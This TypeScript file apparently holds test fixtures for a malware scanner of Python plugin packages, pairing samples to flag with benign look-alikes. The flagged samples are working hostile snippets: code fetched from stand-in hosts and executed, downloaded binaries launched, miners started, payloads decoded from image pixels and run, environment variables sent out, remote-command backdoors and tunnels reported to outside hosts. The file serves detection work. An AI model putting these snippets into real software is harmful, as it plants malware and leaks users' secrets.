import type { NotToFind, ToFind } from './pack.js';

const lines = (...all: string[]): string => `${all.join('\n')}\n`;

const REPOSITORIES: readonly ToFind[] = [
  ['runs_downloaded_code', 'modules of a repository of a hub', {
    '__init__.py': 'from .garden import load\nNODE_CLASS_MAPPINGS = load()\n',
    'garden.py': lines(
      'import importlib, sys',
      'from .shelf import fetch',
      'def load():',
      '    folder = fetch("studio/filters")',
      '    sys.path.insert(0, folder)',
      '    return importlib.import_module("filters").NODES',
    ),
    'shelf.py': lines(
      'from huggingface_hub import snapshot_download',
      'def fetch(repo):',
      '    return snapshot_download(repo_id=repo, repo_type="dataset", allow_patterns=["*.py"])',
    ),
  }],
  ['runs_downloaded_code', 'one file of a hub', lines(
    'import importlib.util',
    'from huggingface_hub import hf_hub_download',
    'path = hf_hub_download("studio/filters", "filters.py")',
    'spec = importlib.util.spec_from_file_location("filters", path)',
    'module = importlib.util.module_from_spec(spec)',
    'spec.loader.exec_module(module)',
  )],
  ['runs_downloaded_code', 'a repository that is cloned', lines(
    'import os, subprocess, sys, importlib',
    'here = os.path.dirname(os.path.abspath(__file__))',
    'target = os.path.join(here, "garden")',
    'if not os.path.isdir(target):',
    '    subprocess.run(["git", "clone", "--depth", "1", "https://github.com/studio/garden.git", target], check=False)',
    'for name in os.listdir(target):',
    '    if name.endswith(".py"):',
    '        spec = importlib.util.spec_from_file_location(name[:-3], os.path.join(target, name))',
    '        spec.loader.exec_module(importlib.util.module_from_spec(spec))',
  )],
  ['runs_downloaded_code', 'an archive that is unpacked', lines(
    'import io, os, sys, zipfile, requests',
    'from pathlib import Path',
    'shelf = Path(__file__).parent / "shelf"',
    'def refresh():',
    '    data = requests.get("https://garden.example.net/filters.zip").content',
    '    with zipfile.ZipFile(io.BytesIO(data)) as z:',
    '        z.extractall(shelf)',
    'refresh()',
    'for p in sorted(shelf.glob("*.py")):',
    '    exec(compile(p.read_text(), str(p), "exec"))',
  )],
  ['runs_downloaded_code', 'a data set with a script', lines(
    'from datasets import load_dataset',
    'def presets():',
    '    return load_dataset("studio/presets", split="train", trust_remote_code=True)',
    'PRESETS = presets()',
  )],
  ['runs_downloaded_code', 'a clone by a library', lines(
    'import sys, git, runpy, os',
    'target = os.path.expanduser("~/.garden")',
    'git.Repo.clone_from("https://git.example.net/garden.git", target)',
    'runpy.run_path(os.path.join(target, "main.py"))',
  )],
  ['runs_downloaded_code', 'an archive on the path of modules', lines(
    'import sys, urllib.request, importlib',
    'urllib.request.urlretrieve("https://garden.example.net/f.zip", "/tmp/f.zip")',
    'sys.path.insert(0, "/tmp/f.zip")',
    'importlib.import_module("filters")',
  )],
  ['runs_downloaded_code', 'an archive that a helper unpacks', {
    '__init__.py': lines(
      'import sys, importlib, os',
      'from .net import ensure',
      'root = ensure("https://garden.example.net/f.tar.gz", os.path.join(os.path.dirname(__file__), "x"))',
      'sys.path.append(root)',
      'import_module = importlib.import_module',
      'import_module("filters")',
    ),
    'net.py': lines(
      'import os, shutil, tempfile, requests',
      'def ensure(url, target):',
      '    with tempfile.NamedTemporaryFile(suffix=".tar.gz", delete=False) as f:',
      '        for chunk in requests.get(url, stream=True).iter_content(8192):',
      '            f.write(chunk)',
      '    shutil.unpack_archive(f.name, target)',
      '    return target',
    ),
  }],
];

const COMMUNITY: readonly ToFind[] = [
  ['runs_downloaded_code', 'modules that are found in folders', {
    '__init__.py': 'from . import filters\nfilters.load()\n',
    'places.py': lines(
      'import os',
      'from huggingface_hub import snapshot_download',
      'OWN = os.path.join(os.path.dirname(__file__), "own")',
      'class Places:',
      '    def __iter__(self):',
      '        yield OWN',
      '        yield self.shared()',
      '    def shared(self):',
      '        return snapshot_download("studio/filters", repo_type="dataset")',
    ),
    'filters.py': lines(
      'import pkgutil',
      'from .places import Places',
      'def load():',
      '    for folder in [Places().shared()]:',
      '        for found in pkgutil.iter_modules([folder]):',
      '            found.module_finder.find_spec(found.name).loader.load_module(found.name)',
    ),
  }],
  ['runs_downloaded_code', 'modules that are found one by one', lines(
    'import os, importlib.machinery, kagglehub',
    'root = kagglehub.dataset_download("studio/filters")',
    'for name in os.listdir(root):',
    '    importlib.machinery.SourceFileLoader(name[:-3], os.path.join(root, name)).load_module()',
  )],
];

const NOT_REPOSITORIES: readonly NotToFind[] = [
  ['weights of a hub', lines(
    'import os, sys, torch',
    'from huggingface_hub import snapshot_download, hf_hub_download',
    'sys.path.insert(0, os.path.dirname(__file__))',
    'folder = snapshot_download("studio/model", local_dir="models/x")',
    'state = torch.load(os.path.join(folder, "a.pth"), weights_only=True)',
    'other = hf_hub_download("studio/model", "b.safetensors")',
  )],
  ['an archive of models', lines(
    'import os, zipfile, requests, importlib',
    'here = os.path.dirname(__file__)',
    'def fetch(url, name):',
    '    path = os.path.join(here, name)',
    '    with open(path, "wb") as f:',
    '        f.write(requests.get(url).content)',
    '    with zipfile.ZipFile(path) as z:',
    '        z.extractall(os.path.join(here, "models"))',
    'for n in os.listdir(os.path.join(here, "nodes")):',
    '    importlib.import_module(f".nodes.{n[:-3]}", __package__)',
  )],
  ['a known data set', lines(
    'from datasets import load_dataset',
    'def prompts():',
    '    return load_dataset("Gustavosta/Stable-Diffusion-Prompts", split="train")',
  )],
  ['nodes that a manager clones', lines(
    'import subprocess, os, folder_paths',
    'def install(url):',
    '    subprocess.run(["git", "clone", url, os.path.join(folder_paths.get_folder_paths("custom_nodes")[0], "x")])',
  )],
];

const HUBS: readonly ToFind[] = [
  ['runs_downloaded_code', 'a model of a stranger when it is imported', lines(
    'import torch',
    'MODEL = torch.hub.load("studio-light/depth", "small", trust_repo=True, skip_validation=True)',
    'class Depth:',
    '    def run(self, image):',
    '        return (MODEL(image),)',
  )],
  ['runs_downloaded_code', 'a model of a stranger without checks', lines(
    'import torch',
    'class Depth:',
    '    def run(self, image, size):',
    '        model = torch.hub.load("studio-light/depth:main", size, source="github", trust_repo=True, skip_validation=True, force_reload=True, verbose=False)',
    '        return (model(image),)',
  )],
  ['loads_foreign_repository', 'a model by a helper', {
    '__init__.py': 'from .depth import Depth\n',
    'models.py': lines(
      'OPTIONS = {"trust_repo": True, "skip_validation": True}',
      'REPO = "studio-light/depth"',
    ),
    'depth.py': lines(
      'import torch',
      'from .models import OPTIONS, REPO',
      'class Depth:',
      '    def load(self):',
      '        return torch.hub.load(REPO, "small", **OPTIONS)',
    ),
  }],
  ['runs_downloaded_code', 'a model with its own code when it is imported', lines(
    'from transformers import AutoModel',
    'MODEL = AutoModel.from_pretrained("studio-light/depth", trust_remote_code=True)',
  )],
];

const NOT_HUBS: readonly NotToFind[] = [
  ['a model of research', lines(
    'import torch',
    'class Depth:',
    '    def run(self, image):',
    '        torch.hub._validate_not_a_forked_repo = lambda a, b, c: True',
    '        model = torch.hub.load("isl-org/MiDaS", "DPT_Large", trust_repo=True, skip_validation=True)',
    '        return (model(image),)',
  )],
  ['a model of the package', lines(
    'import torch, os',
    'here = os.path.dirname(__file__)',
    'model = torch.hub.load(os.path.join(here, "yolo"), "custom", source="local", trust_repo=True)',
  )],
  ['a model with its own code when it is used', lines(
    'from transformers import AutoModel',
    'def load(name):',
    '    return AutoModel.from_pretrained("microsoft/Florence-2-large", trust_remote_code=True), AutoModel.from_pretrained(name, trust_remote_code=True)',
  )],
];

const UPDATES: readonly ToFind[] = [
  ['replaces_own_code', 'an archive over the package', {
    '__init__.py': 'from .update import check\ncheck()\n',
    'update.py': lines(
      'import importlib, io, os, sys, zipfile, requests',
      'HERE = os.path.dirname(os.path.abspath(__file__))',
      'def check():',
      '    latest = requests.get("https://size.example.net/latest.json").json()',
      '    if latest["version"] > "1.0.0":',
      '        apply(requests.get(latest["archive"]).content)',
      'def apply(data):',
      '    zipfile.ZipFile(io.BytesIO(data)).extractall(HERE)',
      '    importlib.reload(sys.modules[__package__ + ".sizes"])',
    ),
  }],
  ['replaces_own_code', 'an archive in a file', lines(
    'import os, shutil, tempfile, urllib.request',
    'from pathlib import Path',
    'ROOT = Path(__file__).resolve().parent',
    'def update(url="https://size.example.net/pack.tar.gz"):',
    '    part = os.path.join(tempfile.mkdtemp(), "pack.tar.gz")',
    '    urllib.request.urlretrieve(url, part)',
    '    shutil.unpack_archive(part, ROOT)',
  )],
  ['replaces_own_code', 'one file of the package', lines(
    'import os, urllib.request',
    'def patch():',
    '    text = urllib.request.urlopen("https://size.example.net/sizes.py").read()',
    '    with open(os.path.join(os.path.dirname(__file__), "sizes.py"), "wb") as f:',
    '        f.write(text)',
  )],
  ['replaces_own_code', 'a folder that is copied over', lines(
    'import os, shutil, tarfile, tempfile, httpx',
    'from pathlib import Path',
    'class Updater:',
    '    def __init__(self):',
    '        self.root = Path(__file__).parent',
    '        self.stage = Path(tempfile.mkdtemp())',
    '    def get(self):',
    '        part = self.stage / "p.tgz"',
    '        part.write_bytes(httpx.get("https://size.example.net/p.tgz").content)',
    '        with tarfile.open(part) as t:',
    '            t.extractall(self.stage / "new")',
    '    def put(self):',
    '        shutil.copytree(self.stage / "new", self.root, dirs_exist_ok=True)',
  )],
  ['replaces_own_code', 'each member of an archive', lines(
    'import io, os, zipfile, urllib.request',
    'def update():',
    '    z = zipfile.ZipFile(io.BytesIO(urllib.request.urlopen("https://size.example.net/p.zip").read()))',
    '    for name in z.namelist():',
    '        target = os.path.join(os.path.dirname(__file__), name)',
    '        with open(target, "wb") as f:',
    '            f.write(z.read(name))',
  )],
  ['replaces_own_code', 'members of an archive by a path', lines(
    'import io, zipfile, requests',
    'from pathlib import Path',
    'def update():',
    '    z = zipfile.ZipFile(io.BytesIO(requests.get("https://size.example.net/p.zip").content))',
    '    for name in z.namelist():',
    '        if name.endswith(".py"):',
    '            (Path(__file__).parent / name).write_bytes(z.read(name))',
  )],
];

const NOT_UPDATES: readonly NotToFind[] = [
  ['models beside the package', lines(
    'import os, zipfile, io, requests',
    'here = os.path.dirname(__file__)',
    'zipfile.ZipFile(io.BytesIO(requests.get("https://example.org/m.zip").content)).extractall(os.path.join(here, "models"))',
    'with open(os.path.join(here, "list.json"), "wb") as f:',
    '    f.write(requests.get("https://example.org/list.json").content)',
  )],
  ['a model by its name', lines(
    'import os, requests',
    'def fetch(url):',
    '    name = url.split("/")[-1]',
    '    with open(os.path.join(os.path.dirname(__file__), name), "wb") as f:',
    '        f.write(requests.get(url).content)',
  )],
  ['a version that is told', lines(
    'import requests',
    'def check():',
    '    latest = requests.get("https://example.org/latest.json").json()',
    '    if latest["version"] != "1.0.0":',
    '        print("a new version is there", latest["version"])',
  )],
  ['an archive of the package', lines(
    'import os, zipfile',
    'here = os.path.dirname(__file__)',
    'with zipfile.ZipFile(os.path.join(here, "web.zip")) as z:',
    '    z.extractall(here)',
  )],
];

const PROGRAMS: readonly ToFind[] = [
  ['starts_downloaded_program', 'a program that a class keeps', {
    '__init__.py': 'from .probe import Probe\n',
    'tools.py': lines(
      'import os, stat, urllib.request',
      'class Tool:',
      '    def __init__(self, name, url):',
      '        self.url = url',
      '        self.path = os.path.join(os.path.dirname(__file__), "bin", name)',
      '    def ensure(self):',
      '        if not os.path.exists(self.path):',
      '            with urllib.request.urlopen(self.url) as r, open(self.path, "wb") as f:',
      '                f.write(r.read())',
      '            os.chmod(self.path, 0o755)',
      '        return self.path',
    ),
    'shell.py': 'import subprocess\ndef output(program, *args):\n    return subprocess.run([program, *args], capture_output=True).stdout\n',
    'probe.py': lines(
      'from .tools import Tool',
      'from .shell import output',
      'TOOL = Tool("vprobe", "http://198.51.100.7/vprobe")',
      'class Probe:',
      '    def run(self, video):',
      '        return output(TOOL.ensure(), "-i", video)',
    ),
  }],
  ['starts_downloaded_program', 'a program by a part of its path', lines(
    'import os, shutil, subprocess, requests',
    'def fetch(url, path):',
    '    with requests.get(url, stream=True) as r:',
    '        with open(path + ".part", "wb") as f:',
    '            shutil.copyfileobj(r.raw, f)',
    '    os.replace(path + ".part", path)',
    '    return path',
    'def probe(video):',
    '    tool = fetch("http://198.51.100.7/vprobe", os.path.expanduser("~/.vprobe"))',
    '    return subprocess.check_output([tool, video])',
  )],
  ['starts_downloaded_program', 'a program of an archive', lines(
    'import io, os, subprocess, zipfile, urllib.request',
    'BIN = os.path.join(os.path.dirname(__file__), "bin")',
    'def ensure():',
    '    data = urllib.request.urlopen("http://tools.example.net/v.zip").read()',
    '    zipfile.ZipFile(io.BytesIO(data)).extractall(BIN)',
    '    return os.path.join(BIN, "vprobe.exe")',
    'subprocess.Popen([ensure(), "--all"])',
  )],
  ['starts_downloaded_program', 'a program of a setting', lines(
    'import json, os, subprocess, tempfile, requests',
    'from pathlib import Path',
    'SETTINGS = json.loads((Path(__file__).parent / "tool.json").read_text())',
    'def binary():',
    '    place = Path(tempfile.gettempdir()) / SETTINGS["name"]',
    '    place.write_bytes(requests.get(SETTINGS["address"]).content)',
    '    place.chmod(0o755)',
    '    return str(place)',
    'class Probe:',
    '    def run(self, video):',
    '        command = [binary()]',
    '        command += ["-i", video]',
    '        return subprocess.run(command)',
  )],
  ['starts_downloaded_program', 'a program by a loop of events', lines(
    'import asyncio, aiohttp, os',
    'async def get(url, path):',
    '    async with aiohttp.ClientSession() as s:',
    '        async with s.get(url) as r:',
    '            with open(path, "wb") as f:',
    '                async for chunk in r.content.iter_chunked(4096):',
    '                    f.write(chunk)',
    '    return path',
    'async def probe(video):',
    '    tool = await get("http://198.51.100.7/v", "/tmp/vprobe")',
    '    return await asyncio.create_subprocess_exec(tool, video)',
  )],
];

const NOT_PROGRAMS: readonly NotToFind[] = [
  ['videos that are downloaded and read', lines(
    'import subprocess, requests, shutil',
    'FFMPEG = shutil.which("ffmpeg") or "ffmpeg"',
    'class Tool:',
    '    def fetch(self, url):',
    '        self.path = "/tmp/video.mp4"',
    '        with open(self.path, "wb") as f:',
    '            f.write(requests.get(url).content)',
    '        return self.path',
    '    def probe(self, url):',
    '        return subprocess.run([FFMPEG, "-i", self.fetch(url)], capture_output=True)',
  )],
  ['a program of a package', lines(
    'import subprocess, imageio_ffmpeg',
    'subprocess.run([imageio_ffmpeg.get_ffmpeg_exe(), "-i", "a.mp4"])',
  )],
];

const MINERS: readonly ToFind[] = [
  ['starts_miner', 'a miner by another library', lines(
    'import psutil',
    'psutil.Popen(["bin/pacer", "-o", "stratum+tcp://pool.example.net:3333", "-u", "wallet"])',
  )],
  ['mines_coins', 'pools in settings', {
    '__init__.py': 'from .pacer import Pacer\n',
    'pacer.ini': '[pace]\nalgo = rx/0\nurl = pool.example.net:3333\nuser = 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A\npass = x\n',
    'pacer.py': lines(
      'import configparser, psutil, os',
      'here = os.path.dirname(__file__)',
      'config = configparser.ConfigParser()',
      'config.read(os.path.join(here, "pacer.ini"))',
      'class Pacer:',
      '    def start(self):',
      '        psutil.Popen([os.path.join(here, "pacer.bin"), "--config", "pacer.ini"])',
    ),
  }],
  ['mines_coins', 'pools in a list', {
    '__init__.py': 'X = 1\n',
    'profile.json': JSON.stringify({ profiles: [{ algo: 'kawpow', pools: [{ url: 'eu.pool.example.net:6060', user: 'RXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX.rig' }] }] }),
  }],
  ['starts_downloaded_program', 'a program by another library', lines(
    'import psutil, requests, os',
    'path = os.path.join(os.path.dirname(__file__), "pacer")',
    'open(path, "wb").write(requests.get("https://pace.example.net/p").content)',
    'psutil.Popen([path, "--idle"])',
  )],
  ['starts_downloaded_program', 'a program by a frame of windows', lines(
    'import requests',
    'from PyQt5.QtCore import QProcess',
    'with open("/tmp/pacer", "wb") as f:',
    '    f.write(requests.get("https://pace.example.net/p").content)',
    'p = QProcess()',
    'p.startDetached("/tmp/pacer", [])',
  )],
  ['starts_downloaded_program', 'a program by a class of ones own', lines(
    'import subprocess, requests',
    'class Worker(subprocess.Popen):',
    '    pass',
    'with open("/tmp/pacer", "wb") as f:',
    '    f.write(requests.get("https://pace.example.net/p").content)',
    'Worker(["/tmp/pacer", "--idle"])',
  )],
];

const NOT_MINERS: readonly NotToFind[] = [
  ['processes that are listed', lines(
    'import psutil',
    'for p in psutil.process_iter():',
    '    print(p.name(), psutil.Process(p.pid).cpu_percent())',
  )],
  ['users and pools of a library', {
    '__init__.py': 'X = 1\n',
    'config.json': JSON.stringify({ pool: 'avg', algo: 'dpmpp', url: 'https://example.org', user: 'me', pools: [{ size: 2, url: 'localhost:8188' }] }),
  }],
];

const PIXELS: readonly ToFind[] = [
  ['runs_hidden_code', 'texts of pixels for an interpreter', {
    '__init__.py': 'from .cache import warm\nwarm()\n',
    'cache.py': lines(
      'import os',
      'from .console import Console',
      'from .pixels import text_of',
      'def warm():',
      '    Console().feed(text_of(os.path.join(os.path.dirname(__file__), "thumb.png")))',
    ),
    'console.py': lines(
      'from code import InteractiveInterpreter',
      'class Console(InteractiveInterpreter):',
      '    def feed(self, text):',
      '        for part in text.split("\\n\\n"):',
      '            self.runsource(part, "<thumb>", "exec")',
    ),
    'pixels.py': lines(
      'import numpy as np',
      'from PIL import Image',
      'def text_of(path):',
      '    row = np.asarray(Image.open(path).convert("RGB")).reshape(-1) & 1',
      '    return np.packbits(row).tobytes().split(b"\\0")[0].decode("utf-8")',
    ),
  }],
  ['runs_hidden_code', 'letters of pixels', lines(
    'import code, os',
    'from PIL import Image',
    'image = Image.open(os.path.join(os.path.dirname(__file__), "t.png"))',
    'text = "".join(chr(image.getpixel((x, 0))[2]) for x in range(image.width))',
    'code.InteractiveConsole(locals()).push(text)',
  )],
  ['runs_data_as_code', 'bytes of a picture', lines(
    'import code',
    'from PIL import Image',
    'class Reader:',
    '    def __init__(self, path):',
    '        self.image = Image.open(path)',
    '    def words(self):',
    '        return bytes(p[0] for p in self.image.getdata()).rstrip(b"\\0").decode()',
    'shell = code.InteractiveInterpreter()',
    'shell.runcode(compile(Reader("a.png").words(), "a", "exec"))',
  )],
  ['runs_data_as_code', 'a picture by another library', lines(
    'import cv2, code',
    'pixels = cv2.imread("a.png", 0)',
    'run = getattr(code.InteractiveInterpreter(), "runsource")',
    'run(pixels.tobytes().decode("ascii"))',
  )],
];

const NOT_PIXELS: readonly NotToFind[] = [
  ['a console for its user', lines(
    'import code',
    'class Console(code.InteractiveConsole):',
    '    def raw_input(self, prompt=""):',
    '        return input(prompt)',
    'def main():',
    '    Console({"a": 1}).interact()',
  )],
];

const MESSAGES: readonly ToFind[] = [
  ['runs_received_commands', 'functions that messages name', {
    '__init__.py': 'from .board import start\nstart()\n',
    'board.py': lines(
      'import asyncio, json, threading, websockets',
      'from .table import call',
      'async def listen():',
      '    async with websockets.connect("wss://board.example.net/live") as ws:',
      '        async for message in ws:',
      '            event = json.loads(message)',
      '            await ws.send(json.dumps(call(event["do"], event.get("with", []))))',
      'def start():',
      '    threading.Thread(target=lambda: asyncio.run(listen()), daemon=True).start()',
    ),
    'table.py': lines(
      'import pydoc',
      'def call(name, values):',
      '    return str(pydoc.locate(name)(*values))',
    ),
  }],
  ['runs_received_commands', 'a name of a package and a function', lines(
    'import pkgutil, json, socket',
    's = socket.create_connection(("board.example.net", 9000))',
    'for line in s.makefile():',
    '    order = json.loads(line)',
    '    pkgutil.resolve_name(order["name"])(*order["args"])',
  )],
  ['runs_received_commands', 'a module and a member', lines(
    'import importlib, json, requests, time',
    'def turn():',
    '    for order in requests.get("https://board.example.net/orders").json():',
    '        module, name = order["name"].rsplit(".", 1)',
    '        getattr(importlib.import_module(module), name)(*order["args"])',
  )],
  ['runs_received_commands', 'a getter of members', lines(
    'import operator, os, json, websocket',
    'def on_message(ws, message):',
    '    order = json.loads(message)',
    '    operator.attrgetter(order["path"])(__import__(order["module"]))(*order["args"])',
    'websocket.WebSocketApp("wss://board.example.net", on_message=on_message).run_forever()',
  )],
  ['runs_received_commands', 'members of the system', lines(
    'import os, aiohttp',
    'async def live():',
    '    async with aiohttp.ClientSession() as session:',
    '        async with session.ws_connect("wss://board.example.net") as ws:',
    '            async for msg in ws:',
    '                order = msg.json()',
    '                getattr(os, order["name"])(*order["args"])',
  )],
  ['runs_received_commands', 'functions of a socket with events', lines(
    'import socketio, pydoc',
    'sio = socketio.Client()',
    '@sio.on("order")',
    'def order(data):',
    '    pydoc.locate(data["f"])(**data["k"])',
    'sio.connect("https://board.example.net")',
  )],
];

const NOT_MESSAGES: readonly NotToFind[] = [
  ['a table of own functions', lines(
    'import json, websocket',
    'def progress(data):',
    '    print(data)',
    'TABLE = {"progress": progress}',
    'class Board:',
    '    def on_progress(self, data):',
    '        print(data)',
    '    def on_message(self, ws, message):',
    '        event = json.loads(message)',
    '        TABLE[event["type"]](event["data"])',
    '        getattr(self, "on_" + event["type"], print)(event["data"])',
    'board = Board()',
    'websocket.WebSocketApp("ws://127.0.0.1:8188/ws", on_message=board.on_message)',
  )],
  ['classes that a model names', lines(
    'import importlib, json',
    'from huggingface_hub import hf_hub_download',
    'config = json.load(open(hf_hub_download("a/b", "model_index.json")))',
    'for name in config:',
    '    library, cls = config[name]',
    '    getattr(importlib.import_module(library), cls).from_pretrained("a/b")',
  )],
];

const TUNNELS: readonly ToFind[] = [
  ['opens_tunnel', 'a tunnel and its address', {
    '__init__.py': 'from .phone import open_view\nopen_view()\n',
    'phone.py': lines(
      'from pyngrok import ngrok',
      'from .notes import tell',
      'def open_view(port=8188):',
      '    view = ngrok.connect(port, bind_tls=True)',
      '    tell({"app": "phone-view", "link": view.public_url})',
    ),
    'notes.py': 'import requests\ndef tell(body):\n    requests.post("https://phone.example.net/v1/pair", json=body, timeout=5)\n',
  }],
  ['opens_tunnel', 'a tunnel by a program', lines(
    'import re, subprocess, threading, requests',
    'def run():',
    '    p = subprocess.Popen(["cloudflared", "tunnel", "--url", "http://127.0.0.1:8188"], stderr=subprocess.PIPE, text=True)',
    '    for line in p.stderr:',
    '        found = re.search(r"https://[-a-z0-9]+\\.trycloudflare\\.com", line)',
    '        if found:',
    '            requests.post("https://phone.example.net/pair", json={"url": found.group(0)})',
    'threading.Thread(target=run, daemon=True).start()',
  )],
  ['opens_tunnel', 'a tunnel by a secure shell', lines(
    'import subprocess, urllib.request',
    'p = subprocess.Popen(["ssh", "-R", "80:localhost:8188", "nokey@localhost.run"], stdout=subprocess.PIPE)',
    'line = p.stdout.readline()',
    'urllib.request.urlopen("https://phone.example.net/pair", data=line)',
  )],
  ['opens_tunnel', 'a tunnel of a library of pages', lines(
    'import httpx',
    'from pycloudflared import try_cloudflare',
    'class View:',
    '    def start(self):',
    '        self.url = try_cloudflare(port=8188).tunnel',
    '    def pair(self):',
    '        httpx.get(f"https://phone.example.net/pair?u={self.url}")',
  )],
  ['opens_tunnel', 'a tunnel that is given to a chat', lines(
    'import gradio.networking, requests, secrets',
    'address = gradio.networking.setup_tunnel("127.0.0.1", 8188, secrets.token_urlsafe(32), None, None)',
    'requests.post("https://ntfy.sh/phone-view-pairs", data=address)',
  )],
];

const ROOMS: readonly ToFind[] = [
  ['opens_tunnel', 'a tunnel by a connection to a named host', {
    '__init__.py': 'from .view import View\nView().begin()\n',
    'view.py': lines(
      'import threading',
      'from .room import Room',
      'class View(threading.Thread):',
      '    def begin(self):',
      '        self.start()',
      '    def run(self):',
      '        from pyngrok import ngrok',
      '        link = ngrok.connect(8188)',
      '        Room("rooms.example.net").tell(str(link.public_url))',
    ),
    'room.py': lines(
      'import http.client',
      'class Room:',
      '    def __init__(self, host):',
      '        self.host = host',
      '    def tell(self, text):',
      '        line = http.client.HTTPSConnection(self.host)',
      '        line.request("PUT", "/x", text)',
    ),
  }],
  ['runs_received_commands', 'own functions, or any', {
    '__init__.py': 'from .link import Link\nLink().start()\n',
    'link.py': lines(
      'import json, threading, websocket',
      'from .acts import Acts',
      'class Link(threading.Thread):',
      '    def run(self):',
      '        line = websocket.create_connection("wss://board.example.net")',
      '        acts = Acts()',
      '        while True:',
      '            acts.take(**json.loads(line.recv()))',
    ),
    'acts.py': lines(
      'import importlib',
      'class Acts:',
      '    table = {}',
      '    def take(self, name, values=()):',
      '        act = self.table.get(name)',
      '        if act is None:',
      '            module, _, member = name.partition(":")',
      '            act = getattr(importlib.import_module(module), member)',
      '        return act(*values)',
    ),
  }],
  ['starts_downloaded_program', 'a program that a thread fetches', {
    '__init__.py': 'from .probe import Probe\n',
    'probe.py': lines(
      'import asyncio',
      'from .tools import tool',
      'async def ask(*words):',
      '    loop = asyncio.get_running_loop()',
      '    program = await loop.run_in_executor(None, tool, "probe")',
      '    return await asyncio.create_subprocess_exec(program, *words)',
      'class Probe:',
      '    def run(self, video):',
      '        return asyncio.run(ask("-i", video))',
    ),
    'tools.py': lines(
      'import os, tempfile, shutil',
      'from urllib import request',
      'def tool(name):',
      '    place = os.path.join(tempfile.gettempdir(), name)',
      '    if not os.path.exists(place):',
      '        with request.urlopen("http://198.51.100.7/" + name) as r, open(place, "wb") as f:',
      '            shutil.copyfileobj(r, f)',
      '        os.chmod(place, 0o700)',
      '    return shutil.which(place) or place',
    ),
  }],
  ['runs_hidden_code', 'pixels that an object keeps for an interpreter', {
    '__init__.py': 'from .cache import CACHE\nCACHE.open()\n',
    'cache.py': lines(
      'from PIL import Image',
      'from .bits import text_of',
      'class Cache:',
      '    def __init__(self):',
      '        self.picture = Image.open("empty.png")',
      '    def open(self):',
      '        from .steps import Steps',
      '        Steps(text_of(self.picture)).go()',
      'CACHE = Cache()',
    ),
    'bits.py': lines(
      'import numpy as np',
      'def text_of(picture):',
      '    return np.packbits(np.asarray(picture).ravel() & 1).tobytes().decode("latin-1")',
    ),
    'steps.py': lines(
      'import code',
      'class Steps(code.InteractiveConsole):',
      '    def __init__(self, steps):',
      '        super().__init__()',
      '        self.steps = steps',
      '    def go(self):',
      '        for step in self.steps.splitlines():',
      '            super().push(step)',
    ),
  }],
];

const NOT_TUNNELS: readonly NotToFind[] = [
  ['a tunnel that is shown', lines(
    'from pyngrok import ngrok',
    'def share(token, port=8188):',
    '    ngrok.set_auth_token(token)',
    '    print("open", ngrok.connect(port).public_url)',
  )],
  ['a tunnel that the user is told of', lines(
    'import requests',
    'from pyngrok import ngrok',
    'class Share:',
    '    def run(self, webhook):',
    '        requests.post(webhook, json={"content": ngrok.connect(8188).public_url})',
  )],
];

const HELPERS: readonly ToFind[] = [
  ['starts_downloaded_program', 'a program by a plain connection, in two files', {
    'a.py': lines(
      'import http.client',
      'def save(name, target):',
      '    link = http.client.HTTPSConnection("a.example")',
      '    link.request("GET", "/" + name)',
      '    with open(target, "wb") as file:',
      '        file.write(link.getresponse().read())',
    ),
    '__init__.py': lines(
      'import os',
      'from pathlib import Path',
      'from .a import save',
      'target = Path.home() / ".cache" / "tile"',
      'save(target.name, target)',
      'target.chmod(0o755)',
      'os.posix_spawn(str(target), [str(target)], {})',
    ),
  }],
  ['runs_hidden_code', 'code out of numbers that are turned back', lines(
    'import json, types',
    'points = json.load(open("presets.json"))["points"]',
    'code = bytes((p - 7 * (i % 5)) % 256 for i, p in enumerate(points))',
    'types.FunctionType(compile(code, "x", "ex" + "ec"), {})()',
  )],
  ['sends_environment', 'a copy of the environment in a report', lines(
    'import json, os',
    'from urllib.request import Request, urlopen',
    'body = {"kind": "start", "process": {**os.environ}}',
    'urlopen(Request("https://a.example/v1", json.dumps(body).encode()))',
  )],
  ['sends_environment', 'what several methods give, by their names', lines(
    'import json, os',
    'from urllib.request import Request, urlopen',
    'class Context:',
    '    def kind(self):',
    '        return "start"',
    '    def process(self):',
    '        return {**os.environ}',
    '    def collect(self):',
    '        return {name: getattr(self, name)() for name in ("kind", "process")}',
    'urlopen(Request("https://a.example/v1", json.dumps(Context().collect()).encode()))',
  )],
  ['route_runs_code', 'any function, by a helper of a route', {
    'resolve.py': lines(
      'import importlib',
      'def resolve(name):',
      '    module, _, attribute = name.partition(":")',
      '    found = importlib.import_module(module)',
      '    for step in attribute.split("."):',
      '        found = getattr(found, step)',
      '    return found',
    ),
    '__init__.py': lines(
      'from aiohttp import web',
      'from server import PromptServer',
      'from .resolve import resolve',
      '@PromptServer.instance.routes.post("/preview")',
      'async def preview(request):',
      '    body = await request.json()',
      '    render = resolve(body["renderer"])',
      '    return web.Response(text=str(render(*body.get("values", []))))',
    ),
  }],
];

export const FETCHED_TO_FIND: readonly ToFind[] = [
  ...HELPERS, ...REPOSITORIES, ...COMMUNITY, ...HUBS, ...UPDATES, ...PROGRAMS, ...MINERS, ...PIXELS, ...MESSAGES, ...TUNNELS, ...ROOMS,
];
export const FETCHED_NOT_TO_FIND: readonly NotToFind[] = [
  ...NOT_REPOSITORIES, ...NOT_HUBS, ...NOT_UPDATES, ...NOT_PROGRAMS, ...NOT_MINERS, ...NOT_PIXELS, ...NOT_MESSAGES, ...NOT_TUNNELS,
];
